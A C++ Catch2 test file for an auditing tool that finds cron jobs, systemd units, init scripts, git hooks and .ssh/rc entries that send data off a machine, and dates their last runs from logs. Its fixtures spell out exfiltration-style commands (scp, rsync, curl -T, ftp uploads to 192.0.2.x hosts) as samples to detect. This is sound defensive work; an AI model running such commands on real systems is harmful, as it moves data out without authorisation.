#include "auexfil/artefacts/registered.hpp"

#include <catch2/catch.hpp>

#include "../transfer/rules.hpp"
#include "image.hpp"

namespace auexfil::artefacts::test {
namespace {

/// "WHERE[ in SCRIPT]: TOOL DIRECTION PEER…".
Lines told(const std::vector<Registered>& registered) {
  Lines lines;
  for (const Registered& one : registered) {
    std::string line = one.artefact->where();
    line.append(one.script.empty() ? "" : " in " + one.script).append(": ").append(one.tool);
    line.append(" ").append(transfer::to_word(one.direction));
    for (const transfer::ArgPeer& peer : one.peers) {
      line.append(" ").append(peer.host.empty() ? "?" : peer.host);
    }
    lines.push_back(line);
  }
  return lines;
}

}  // namespace

TEST_CASE("registered: what artefacts and their scripts would send") {
  const Image image(Files{
      {"/etc/crontab",
       "0 2 * * * root scp -q /a b@192.0.2.1:x\n"
       "0 3 * * * root cd / && /opt/night.sh\n"
       "0 4 * * * root timeout 60 curl -T f ftp://192.0.2.3/up/\n"
       "0 5 * * * root scp /a $HOST:x\n"
       "0 6 * * * root curl -o f http://192.0.2.4/f\n"
       "0 7 * * * root echo scp; curl http://localhost/\n"
       "0 8 * * * root python3 /opt/x.py\n"
       "0 9 * * * root /tmp/agent -s -T /a ftp://192.0.2.5/up/b\n"},
      {"/opt/night.sh",
       "#!/bin/sh\nfor i in 1 2; do\n  ftp -n 192.0.2.2 <<END\nput x\nEND\ndone\n/opt/deeper.sh\n"},
      {"/opt/deeper.sh", "#!/bin/sh\nscp a b@192.0.2.9:\n"},
      {"/opt/x.py", "#!/usr/bin/python3\nimport os\nscp = 1\n"},
      {"/etc/systemd/system/a.service",
       "[Service]\nExecStart=/usr/bin/rsync -a /a b@192.0.2.6:c\n"},
      {"/root/.ssh/rc", "curl -T k http://192.0.2.7/\n"},
      {"/srv/r.git/hooks/post-receive", "#!/bin/sh\nrsync -a . b@192.0.2.8:c\n"},
      {"/etc/systemd/system/d.service", "[Service]\nExecStart=/usr/bin/rsync --daemon\n"},
  });
  const Inventory inventory = collect(image);
  const auto found = find_registered(inventory, image, auexfil::test::rules().tools);
  CHECK(told(found) == Lines{"/etc/crontab:1: scp out 192.0.2.1",
                             "/etc/crontab:2 in /opt/night.sh: ftp unknown 192.0.2.2",
                             "/etc/crontab:3: curl out 192.0.2.3", "/etc/crontab:4: scp out ?",
                             "/etc/crontab:5: curl in 192.0.2.4",
                             "/etc/crontab:8: curl out 192.0.2.5",
                             "/etc/systemd/system/a.service: rsync out 192.0.2.6",
                             "/root/.ssh/rc in /root/.ssh/rc: curl out 192.0.2.7",
                             "/srv/r.git/hooks/post-receive in /srv/r.git/hooks/post-receive: "
                             "rsync out 192.0.2.8"});
}

TEST_CASE("registered: what find starts goes out as find would have it") {
  const Image image(Files{
      {"/etc/crontab",
       "0 2 * * * root find /a -name '*.csv' -exec scp {} u@192.0.2.1: \\;\n"
       "0 3 * * * root nice find /a -exec rsync -a {} u@192.0.2.2:/b ';' -exec rm {} +\n"
       "0 4 * * * root find /a -type f | xargs -I{} scp {} u@192.0.2.3:\n"},
      {"/etc/systemd/system/a.service",
       "[Service]\nExecStart=/usr/bin/find /a -exec curl -sT {} ftp://192.0.2.4/ \\;\n"},
  });
  const Inventory inventory = collect(image);
  const auto found = find_registered(inventory, image, auexfil::test::rules().tools);
  CHECK(told(found) == Lines{"/etc/crontab:1: scp out 192.0.2.1",
                             "/etc/crontab:2: rsync out 192.0.2.2",
                             "/etc/crontab:3: scp out 192.0.2.3",
                             "/etc/systemd/system/a.service: curl out 192.0.2.4"});
  CHECK(found.at(0).command == "scp $ u@192.0.2.1:");
}

TEST_CASE("registered: a script that may not be executed is left out, where modes are kept") {
  const std::string script = "#!/bin/sh\nscp /a b@192.0.2.1:x\n";
  Image image(Files{{"/etc/cron.daily/a", script},
                    {"/etc/init.d/b", script},
                    {"/etc/NetworkManager/dispatcher.d/c", script},
                    {"/srv/r.git/hooks/post-receive", script}});
  const auto found = [&] {
    const Inventory inventory = collect(image);
    return find_registered(inventory, image, auexfil::test::rules().tools).size();
  };
  CHECK(found() == 4);
  image.modes = {{"/etc/cron.daily/a", 0600}, {"/etc/init.d/b", 0600}};
  CHECK(found() == 4);
  image.modes["/etc/init.d/b"] = 0755;
  CHECK(found() == 1);
  // What is given a script runs it all the same.
  image.files["/etc/crontab"] = "1 1 * * * root sh /etc/cron.daily/a\n";
  CHECK(found() == 2);
}

TEST_CASE("registered: one script is one, by how many names it may be reached") {
  const std::string script = "#!/bin/sh\nscp /a b@192.0.2.1:x\n";
  Image image(Files{{"/etc/passwd", "git:x:7:7::/srv/git:/bin/sh\n"},
                    {"/etc/rc.d/rc.local", script},
                    {"/etc/init.d/after.local", script},
                    {"/srv/git/r.git/hooks/post-receive", script}});
  image.links["/etc/rc.local"] = "/etc/rc.d/rc.local";
  const Matcher matcher(collect(image));
  const auto found = find_registered(matcher.inventory(), image, auexfil::test::rules().tools);
  CHECK(told(found) ==
        Lines{"/etc/rc.local in /etc/rc.local: scp out 192.0.2.1",
              "/etc/init.d/after.local in /etc/init.d/after.local: scp out 192.0.2.1",
              "/srv/git/r.git/hooks/post-receive in /srv/git/r.git/hooks/post-receive: scp out "
              "192.0.2.1"});
  for (const std::string_view name : {"/etc/rc.local", "/etc/rc.d/rc.local"}) {
    Start start;
    start.job_kind = "service";
    start.programs = {{9, "/bin/sh", name, {"/bin/sh", name}, false}, {1, "init", {}, {}, false}};
    const auto starts = matcher.candidates(start);
    REQUIRE(starts.size() == 1);
    CHECK(starts.front()->where() == "/etc/rc.local");
  }
}

TEST_CASE("registered: what speaks to nobody is no transfer") {
  struct Case {
    const char* command;
    std::size_t found;
  };
  const auto c = GENERATE(values<Case>({
      {"git push -q backup main", 1},
      {"git -C /r fetch", 1},
      {"git archive --remote=backup main", 1},
      {"git archive main", 0},
      {"git describe", 0},
      {"git stash push", 0},
      {"git commit -qam x", 0},
      {"openssl enc -in a -out b", 0},
      {"openssl s_client -connect 192.0.2.1:443", 1},
      {"smbclient -L", 0},
      {"restic backup /a", 1},
      {"restic snapshots", 0},
  }));
  CAPTURE(c.command);
  const Image image(Files{{"/etc/crontab", std::string("1 1 * * * root ") + c.command + "\n"}});
  const Inventory inventory = collect(image);
  CHECK(find_registered(inventory, image, auexfil::test::rules().tools).size() == c.found);
}

TEST_CASE("registered: when each ran last") {
  const Image image(Files{
      {"/etc/debian_version", "12\n"},
      {"/etc/timezone", "Etc/UTC\n"},
      {"/etc/crontab",
       "2 1 * * * root scp /a b@192.0.2.1:x\n2 5 * * * root scp /c b@192.0.2.1:x\n"},
      {"/etc/cron.daily/push", "#!/bin/sh\nscp /d b@192.0.2.1:x\n"},
      {"/var/spool/anacron/cron.daily", "20261201\n"},
      {"/etc/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/scp /e b@192.0.2.1:x\n"},
  });
  const Matcher matcher(collect(image));
  auto found = find_registered(matcher.inventory(), image, auexfil::test::rules().tools);
  REQUIRE(found.size() == 4);
  coverage::SeenJob session;
  session.kind = "cron";
  session.user = "root";
  session.times = {1796173321000, 1796173381000};  // 01:02:01 and 01:03:01
  coverage::SeenJob unit;
  unit.kind = "unit";
  unit.name = "a";
  unit.starts = 1;
  unit.last = 1796173400000;
  const std::vector jobs{session, unit};
  find_last_runs(found, matcher, image, {jobs, 0, 0, nullptr, {}});
  CHECK(found[0].last_run == 1796173321000);
  CHECK(found[0].last_run_by == "session of cron");
  CHECK_FALSE(found[1].last_run);
  CHECK(found[2].last_run == 1796083200000);
  CHECK(found[2].last_run_by == "day of anacron's stamp");
  CHECK(found[3].last_run == 1796173400000);
  CHECK(found[3].last_run_by == "unit's records");
}

TEST_CASE("registered: what tells of an instance tells of its template, or of its own entry") {
  const auto image = std::make_shared<Image>(Files{
      {"/etc/systemd/system/a@.service", "[Service]\nExecStart=/usr/bin/scp /%i b@192.0.2.1:x\n"},
      {"/etc/systemd/system/a@.timer", "[Timer]\nOnCalendar=daily\nPersistent=true\n"},
      {"/etc/systemd/system/a@y.service.d/1.conf", "[Service]\nUser=eve\n"},
      {"/var/lib/systemd/timers/stamp-a@x.timer", ""},
      {"/var/lib/systemd/timers/stamp-a@y.timer", ""},
      {"/var/log/syslog",
       "2026-12-02T03:00:00Z h systemd[1]: Starting a@x.service - Push...\n"
       "2026-12-02T04:00:00Z h systemd[1]: Starting a@y.service - Push...\n"},
  });
  const Matcher matcher(collect(*image));
  const auto ran = [&](const RunLogs& logs) {
    auto found = find_registered(matcher.inventory(), *image, auexfil::test::rules().tools);
    find_last_runs(found, matcher, *image, logs);
    Lines told;
    for (const Registered& one : found) {
      told.push_back(one.artefact->unit + " " + std::to_string(one.last_run.value_or(0) / 1000));
    }
    return told;
  };
  CHECK(ran({}) == Lines{"a@.service 0", "a@y.service 0"});
  const SystemLogs others({image, "/", true});
  CHECK(ran({{}, 0, 0, &others, "h"}) == Lines{"a@.service 1796180400", "a@y.service 1796184000"});
  coverage::SeenJob unit;
  unit.kind = "unit";
  unit.name = "a@x";
  unit.starts = 1;
  unit.last = 1796173400000;
  const std::vector jobs{unit};
  CHECK(ran({jobs, 0, 0, nullptr, {}}) == Lines{"a@.service 1796173400", "a@y.service 0"});
  image->changed = {{"/var/lib/systemd/timers/stamp-a@x.timer", 11},
                    {"/var/lib/systemd/timers/stamp-a@y.timer", 22}};
  CHECK(ran({}) == Lines{"a@.service 11", "a@y.service 22"});
}

TEST_CASE("registered: what starters wrote to syslog tells when each ran last") {
  const auto image = std::make_shared<Image>(Files{
      {"/etc/debian_version", "12\n"},
      {"/etc/timezone", "Etc/UTC\n"},
      {"/etc/crontab",
       "2 1 * * * root scp /a b@192.0.2.1:x\n2 5 * * * al scp /c b@192.0.2.1:x\n"
       "3 6 * * * root scp /s b@192.0.2.1:x\n4 7 * * * root scp /s b@192.0.2.1:x\n"},
      {"/etc/cron.daily/push", "#!/bin/sh\nscp /d b@192.0.2.1:x\n"},
      {"/etc/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/scp /e b@192.0.2.1:x\n"},
      {"/var/log/syslog.1",
       "2026-12-01T01:02:01Z h CRON[7]: (root) CMD (scp /a b@192.0.2.1:x)\n"
       "2026-12-01T05:02:01Z h CRON[7]: (root) CMD (scp /c b@192.0.2.1:x)\n"
       "2026-12-01T05:02:01Z other CRON[7]: (al) CMD (scp /c b@192.0.2.1:x)\n"
       "2026-12-01T06:03:01Z h CRON[7]: (root) CMD (scp /s b@192.0.2.1:x)\n"
       "2026-12-01T06:30:00Z h anacron[7]: Job `cron.daily' started\n"},
      {"/var/log/syslog",
       "2026-12-02T01:02:01Z h CRON[7]: (root) CMD (scp /a b@192.0.2.1:x)\n"
       "2026-12-02T03:00:00Z h systemd[1]: Starting a.service - Push...\n"
       "2026-12-02T04:00:00Z h logger: (root) CMD (scp /a b@192.0.2.1:x)\n"},
  });
  const Matcher matcher(collect(*image));
  auto found = find_registered(matcher.inventory(), *image, auexfil::test::rules().tools);
  const SystemLogs others({image, "/", true});
  find_last_runs(found, matcher, *image, {{}, 0, 0, &others, "h"});
  Lines told;
  for (const Registered& one : found) {
    told.push_back(one.artefact->where() + " " +
                   (one.last_run ? audit::format_rfc3339(*one.last_run) : "-") + " " +
                   one.last_run_by);
  }
  CHECK(told == Lines{"/etc/crontab:1 2026-12-02T01:02:01.000Z cron's line /var/log/syslog:1",
                      "/etc/crontab:2 - ",
                      "/etc/crontab:3 2026-12-01T06:03:01.000Z cron's line /var/log/syslog.1:4",
                      "/etc/crontab:4 - ",
                      "/etc/cron.daily/push 2026-12-01T06:30:00.000Z anacron's line "
                      "/var/log/syslog.1:5",
                      "/etc/systemd/system/a.service 2026-12-02T03:00:00.000Z systemd's line "
                      "/var/log/syslog:2"});
}

}  // namespace auexfil::artefacts::test
